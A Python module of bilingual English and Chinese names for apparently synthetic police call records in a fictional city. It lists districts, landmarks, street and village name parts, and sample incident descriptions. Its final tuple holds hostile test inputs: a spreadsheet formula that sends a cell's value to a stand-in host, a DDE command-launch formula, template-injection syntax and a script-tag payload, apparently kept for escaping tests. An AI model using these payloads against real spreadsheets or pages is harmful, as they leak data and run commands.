"""What things are called, in English and in Chinese."""

from __future__ import annotations

from typing import Literal

Language = Literal["en", "zh"]

CITY_NAME = {"en": "Lanchuan", "zh": "澜川市"}

DISTRICT_NAMES = {
    "en": ("Gucheng", "Binhe", "Xishan", "Gaoxin", "Qingxi County", "Shitan County"),
    "zh": ("古城区", "滨河区", "西山区", "高新区", "青溪县", "石滩县"),
}

COLUMNS = {
    "en": ("call_id", "received_at", "longitude", "latitude", "category", "description"),
    "zh": ("警情编号", "接警时间", "经度", "纬度", "警情类别", "警情描述"),
}

LANDMARK_NAMES = {
    "night_market": ("Night Market", "夜市"),
    "station": ("Railway Station", "火车站"),
    "coach_station": ("Coach Station", "汽车站"),
    "hospital": ("Hospital", "人民医院"),
    "bar_street": ("Bar Street", "酒吧街"),
    "square": ("Square", "广场"),
    "mall": ("Shopping Centre", "购物中心"),
    "market": ("Wholesale Market", "批发市场"),
    "mill": ("Mill Quarters", "纺织厂家属区"),
    "government": ("Government Hall", "政务中心"),
    "school": ("School", "学校"),
}

STATION_NAMES = {"en": "{district} Police Station {number}", "zh": "{district}第{number}派出所"}

RIVER_NAME = {"en": "Lan River", "zh": "澜江"}
BOAT_NAME = {"en": "River police {number}", "zh": "水警{number}队"}
QUAY_NAME = {"en": "Quay {number}", "zh": "{number}号码头"}
GATE_NAME = {"en": "Electronic gate {number}", "zh": "电子卡口{number}"}
EXIT_NAME = {"en": "City exit {number}", "zh": "出城口{number}"}
CHECKPOINT_RINGS = {"en": ("core", "urban", "city"), "zh": ("核心圈", "城区圈", "市域圈")}
POST_KINDS = {"en": ("motorway station", "water post"), "zh": ("高速卡口", "水上卡点")}

CREW_CLASSES = {"en": ("city", "county"), "zh": ("城区", "县城")}
VILLAGE_CREW = {"en": ("guard", "official", "volunteer"), "zh": ("辅警", "村干部", "志愿者")}
VILLAGE_NAME = {"en": "{0}{1}", "zh": "{0}{1}村"}
VILLAGE_FAMILIES = (
    ("Lijia", "李家"), ("Wangjia", "王家"), ("Zhangjia", "张家"), ("Liujia", "刘家"),
    ("Chenjia", "陈家"), ("Yangjia", "杨家"), ("Zhoujia", "周家"), ("Huangjia", "黄家"),
    ("Tangjia", "唐家"), ("Xiejia", "谢家"), ("Zengjia", "曾家"), ("Pengjia", "彭家"),
    ("Xiaojia", "肖家"), ("Luojia", "罗家"), ("Yinjia", "尹家"), ("Shijia", "石家"),
    ("Shang", "上"), ("Xia", "下"), ("Da", "大"), ("Xiao", "小"), ("Hong", "红"),
    ("Bai", "白"), ("Xin", "新"), ("Lao", "老"),
)  # fmt: skip
VILLAGE_PLACES = (
    ("chong", "冲"), ("ping", "坪"), ("wan", "湾"), ("tang", "塘"), ("qiao", "桥"), ("ling", "岭"),
    ("wu", "屋"), ("yuan", "院"), ("ba", "坝"), ("po", "坡"), ("shan", "山"), ("xi", "溪"),
    ("tian", "田"), ("jing", "井"), ("zui", "嘴"), ("ao", "坳"), ("dian", "店"), ("pu", "铺"),
    ("long", "垅"), ("shu", "树"),
)  # fmt: skip

STREET_PREFIXES = (
    ("Renmin", "人民"), ("Jiefang", "解放"), ("Jianshe", "建设"), ("Zhongshan", "中山"),
    ("Shaoshui", "邵水"), ("Dongfeng", "东风"), ("Hongqi", "红旗"), ("Xinhua", "新华"),
    ("Wenhua", "文化"), ("Binjiang", "滨江"), ("Chaoyang", "朝阳"), ("Guangming", "光明"),
    ("Heping", "和平"), ("Tuanjie", "团结"), ("Qingnian", "青年"), ("Gongye", "工业"),
    ("Xuefu", "学府"), ("Baihe", "白鹤"), ("Shuangqiao", "双桥"), ("Yingbin", "迎宾"),
    ("Chengnan", "城南"), ("Chengbei", "城北"), ("Longshan", "龙山"), ("Fenghuang", "凤凰"),
    ("Taohua", "桃花"), ("Meiyuan", "梅园"), ("Songpo", "松坡"), ("Zixia", "紫霞"),
    ("Yunhe", "运河"), ("Chuangxin", "创新"), ("Keji", "科技"), ("Huancheng", "环城"),
)  # fmt: skip
STREET_SUFFIXES = {"en": ("Road", "Street", "Avenue"), "zh": ("路", "街", "大道")}
RING_NAMES = {"en": ("Inner Ring Road", "Outer Ring Road"), "zh": ("内环路", "外环路")}
EXPRESSWAY_NAME = {"en": "Lanchuan Expressway", "zh": "澜川绕城高速"}
MAIN_ROAD_NAME = {"en": "Provincial Road S219", "zh": "省道S219"}
COUNTY_ROAD_NAME = {"en": "County Road X{number:03d}", "zh": "县道X{number:03d}"}
LANE_NAME = {"en": "{prefix} Lane {number}", "zh": "{prefix}{number}巷"}

# What a record says, by English name of its category; free text is Chinese in either language.
DESCRIPTIONS = {
    "traffic accident": (
        "群众来电，称路口两车相撞，无人受伤，请民警到场处理。",
        "电动车与轿车剐蹭, 占道",
        "Two cars touched at the lights, nobody hurt; the lane is blocked.",
    ),
    "dispute": ("消费纠纷，双方仍在柜台", "Dispute over a bill, both sides still at the counter"),
    "help": ("求助：钥匙被锁在车内", "Door will not open,\r\na child is inside alone"),
    "noise": ("报警人称邻居深夜放音乐，影响休息", "Neighbour plays music, again"),
    "theft": ("称手机被扒窃，价值约3000元", "电动车停放在楼下被盗, 有监控"),
    "fraud": ("报警人称接到冒充客服的电话，被骗转账", "转账后对方失联，损失5,000元"),
    "fight": (
        "报警称：“有人打架”，约五六人，未见凶器",
        "Five or six men, shouting, no weapons seen",
    ),
    "drunk person": ("酒后在店内滋事，不肯离开", "Man asleep on the pavement, smells of drink"),
    "domestic violence": ("家庭纠纷，女方要求民警到场", "夫妻争吵动手，有孩子在场"),
    "missing person": ("老人走失，身穿灰色外套\n家属在广场等候", "Child of six lost at the gate"),
    "fire or gas": ("楼道有烟味，疑似电线起火", "住户闻到燃气味, 已开窗"),
    "robbery": ('Caller says: "he took my bag", ran towards the river', "夜间被抢走手提包"),
    "officer initiated": ("巡逻中发现可疑车辆，已盘查", "Patrol checked a parked van"),
}
HOSTILE_DESCRIPTIONS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+86 138 0000 0000 请回电",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "{{ 7 * 7 }} {% for x in y %} {# 注释 #}",
    "<script>alert('call')</script></script>",
    "-- 无内容 --\u2028第二行",
)
